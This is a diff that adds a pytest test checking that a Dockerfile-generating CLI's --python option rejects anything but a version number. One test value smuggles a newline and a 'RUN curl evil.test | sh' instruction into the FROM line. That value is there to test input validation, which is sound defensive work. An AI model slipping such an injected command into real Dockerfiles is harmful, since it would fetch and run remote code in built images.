@@ -879,3 +879,14 @@ def test_init_names_what_the_project_s_own_docker_files_would_lose(project, caps
     assert main(["init", str(project), "--force"]) == 0
     out = capsys.readouterr().out
     assert "not carried over: docker/compose.yml: service worker" in out
+
+
+@pytest.mark.parametrize("value", ["3.13\nRUN curl evil.test | sh", "3.13 AS x", "latest", "2.7"])
+def test_init_python_is_a_version_and_nothing_else(value, tmp_path, capsys):
+    """--python goes into the Dockerfile's FROM: a newline or anything but a version is wrong
+    usage (exit 2), and nothing is written."""
+    from divio_settings.cli import main
+
+    assert main(["init", str(tmp_path), "--python", value]) == 2
+    assert "expected a Python version such as 3.13" in capsys.readouterr().err
+    assert list(tmp_path.iterdir()) == []
